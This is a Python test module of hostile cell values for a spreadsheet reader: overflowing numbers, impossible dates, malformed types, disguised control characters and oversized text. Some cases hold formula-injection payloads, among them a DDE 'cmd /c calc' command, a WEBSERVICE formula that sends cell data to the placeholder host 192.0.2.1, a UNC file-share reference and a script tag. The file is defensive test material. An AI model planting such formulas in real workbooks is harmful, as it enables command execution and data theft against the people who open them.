"""What cells hold: numbers that are none, dates beyond the calendar, formulas that reach out.

Where cells stand is `sheets`.
"""

from collections.abc import Callable

from tests.hostile.case import DAMAGED, LARGER, SECRET, Case, Read, Refused
from tests.hostile.sheets import cell, row
from tests.hostile.workbooks import (
    SHEET,
    STRINGS,
    STYLES,
    a_workbook,
    sheet,
    strings,
    styles,
    with_rows,
)


def holding(value: str, kind: str = "n", formula: str | None = None) -> bytes:
    """A workbook with one cell."""
    said = "" if formula is None else f"<f>{formula}</f>"
    return with_rows(row(1, cell("A1", f"{said}<v>{value}</v>", f't="{kind}"')))


def dated(value: str, kind: str = "n", code: int = 14) -> bytes:
    """One cell that is shown as a date."""
    return a_workbook(
        {
            STYLES: styles(f'<xf numFmtId="{code}"/>'),
            SHEET: sheet(row(1, cell("A1", f"<v>{value}</v>", f's="0" t="{kind}"'))),
        }
    )


def text(said: str) -> bytes:
    return a_workbook(
        {
            STRINGS: strings(f"<si><t>{said}</t></si>"),
            SHEET: sheet(row(1, cell("A1", "<v>0</v>", 't="s"'))),
        }
    )


def formula_alone(attributes: str) -> bytes:
    return with_rows(row(1, cell("A1", f"<f {attributes}>1+1</f><v>2</v>")))


COMMAND = f"cmd|'/c calc {SECRET}'!A1"


def _case(name: str, made: str, build: Callable[[], bytes], verdict: Refused | Read) -> Case:
    return Case(f"value: {name}", made, build, verdict)


def _damaged(name: str, made: str, build: Callable[[], bytes]) -> Case:
    return _case(name, made, build, Refused(DAMAGED))


def _no_number(name: str, made: str, value: str) -> Case:
    return _case(name, made, lambda: holding(value), Read(1, errors={"A1": "#NUM!"}))


def _formula(name: str, made: str, words: str) -> Case:
    return _case(name, made, lambda: holding("7", formula=words),
                 Read(1, {"A1": "7"}, formulas=("A1",)))  # fmt: skip


CASES = [
    _no_number("1e400", "A number too large for a spreadsheet.", "1e400"),
    _no_number("-1e400", "A number too far below zero.", "-1e400"),
    *(_damaged(f"the number {word}", f"A number cell holds {word}.",
               lambda word=word: holding(word))
      for word in ("NaN", "INF", "-Infinity", "0x10", "1,5", "1_000", "\u0661\u0662", "1 2", "++1",
                   "1e", SECRET)),
    _damaged("5,000 digits", "A number of 5,000 digits.", lambda: holding("9" * 5_000)),
    _case("300 digits", "A number of 300 digits.", lambda: holding("9" * 300), Read(1)),
    _no_number("400 digits", "A number of 400 digits.", "9" * 400),
    _case("very small", "The number 1e-400, which a spreadsheet takes for nothing.",
          lambda: holding("1e-400"), Read(1, {"A1": "0"})),
    _case("an exponent of 20 digits", "The number 1e99999999999999999999.",
          lambda: holding("1e99999999999999999999"), Read(1, errors={"A1": "#NUM!"})),
    _case("100,000 digits after the point", "A third, to 100,000 places.",
          lambda: holding("0." + "3" * 100_000), Refused(LARGER)),
    _case("a day after the year 9999", "Day 99,999,999 in a cell that shows dates.",
          lambda: dated("99999999"), Read(1, errors={"A1": "#VALUE!"})),
    _case("a day before all days", "Day -99,999,999 in a cell that shows dates.",
          lambda: dated("-99999999"), Read(1, errors={"A1": "#VALUE!"})),
    _case("an endless day", "Day 1e400 in a cell that shows dates.",
          lambda: dated("1e400"), Read(1, errors={"A1": "#VALUE!"})),
    _case("endless hours", "1e300 days in a cell that shows hours.",
          lambda: dated("1e300", code=46), Read(1, errors={"A1": "#VALUE!"})),
    _case("a date in words", "A cell said to hold a date holds words.",
          lambda: dated(SECRET, kind="d"), Read(1, {"A1": SECRET})),
    _case("a formula of 100,000 characters", "A sum of many ones.",
          lambda: holding("7", formula="1+" * 50_000 + "1"), Refused(LARGER)),
    _formula("a command by DDE", "A formula that would start a program; its stored result is 7.",
             COMMAND),
    _formula("a web service", "A formula that would send the sheet away.",
             'WEBSERVICE("http://192.0.2.1/?"&amp;A2)'),
    _formula("another file", "A formula that reads another workbook.", "[1]Sheet1!A1"),
    _formula("a file on a share", "A formula that reads a file on another computer.",
             r"'\\192.0.2.1\a\[b.xlsx]c'!A1"),
    _case("a formula without a result", "A formula that no program has worked out.",
          lambda: holding("", formula="1+1"), Read(1, errors={"A1": "#NOT-CALCULATED"})),
    _case("an array over the whole sheet", "An array formula for A1:XFD1048576.",
          lambda: formula_alone('t="array" ref="A1:XFD1048576"'), Read(1, {"A1": "2"})),
    _case("a shared formula from nowhere", "A formula shared with a cell that is not there.",
          lambda: formula_alone('t="shared" si="4294967295"'), Read(1, {"A1": "2"})),
    _damaged("a type that is none", "A cell of the type banana.", lambda: holding("1", "banana")),
    _damaged("a truth that is none", "A cell that is neither true nor false but maybe.",
             lambda: holding("maybe", "b")),
    _damaged("an error that is none", "An error cell whose code is a sentence.",
             lambda: holding(f"{SECRET} says call 0900 1234", "e")),
    _damaged("an error of 100,000 characters", "An error cell with a very long code.",
             lambda: holding("#" * 100_000, "e")),
    _case("a text of 40,000 characters", "More than a cell of a spreadsheet holds.",
          lambda: text("z" * 40_000), Read(1)),
    _case("a zero byte in disguise", "The text _x0000_, an escaped zero byte.",
          lambda: text("a_x0000_b"), Read(1, {"A1": "a_x0000_b"})),
    _case("half a character in disguise", "The text _xD800_, half of a character.",
          lambda: text("a_xD800_b"), Read(1, {"A1": "a_xD800_b"})),
    _case("colours in disguise", "The text _x001B_[31m, which turns a terminal red.",
          lambda: text("a_x001B_[31m"), Read(1, {"A1": "a_x001B_[31m"})),
    _case("text turned round", "A right-to-left override within a text.",
          lambda: text("a\u202eb"), Read(1, {"A1": "a\u202eb"})),
    _case("a formula as text", "The text =1+1, not a formula.",
          lambda: holding("=1+1", "str"), Read(1, {"A1": "=1+1"})),
    _case("a script as text", "The text of an HTML script.",
          lambda: text("&lt;script&gt;alert(1)&lt;/script&gt;"),
          Read(1, {"A1": "<script>alert(1)</script>"})),
    _case("a text in 20,000 pieces", "A text of 20,000 runs, each with its own font.",
          lambda: a_workbook({STRINGS: strings("<si>" + "<r><rPr/><t>z</t></r>" * 20_000 + "</si>"),
                              SHEET: sheet(row(1, cell("A1", "<v>0</v>", 't="s"')))}),
          Read(1, {"A1": "z" * 20_000})),
]  # fmt: skip
